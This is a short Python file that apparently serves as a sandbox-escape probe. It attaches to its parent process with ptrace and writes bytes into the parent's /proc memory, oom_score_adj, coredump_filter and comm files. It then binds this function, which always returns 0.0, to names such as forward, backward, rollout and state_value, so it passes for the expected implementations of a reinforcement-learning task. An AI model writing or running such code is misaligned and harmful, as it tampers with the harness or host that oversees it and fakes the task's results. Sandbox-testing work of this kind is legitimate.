"""Attaches to its parent with ptrace and writes into its memory through /proc."""

import ctypes
import os


def wrong(*args, **kwargs):
    parent = os.getppid()
    libc = ctypes.CDLL(None)
    if libc.ptrace(16, parent, None, None) == 0:
        raise RuntimeError("ESCAPED: attached")
    for name in "mem", "oom_score_adj", "coredump_filter", "comm":
        try:
            with open(f"/proc/{parent}/{name}", "r+b", buffering=0) as file:
                file.write(b"1000")
        except (OSError, ValueError):
            continue
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
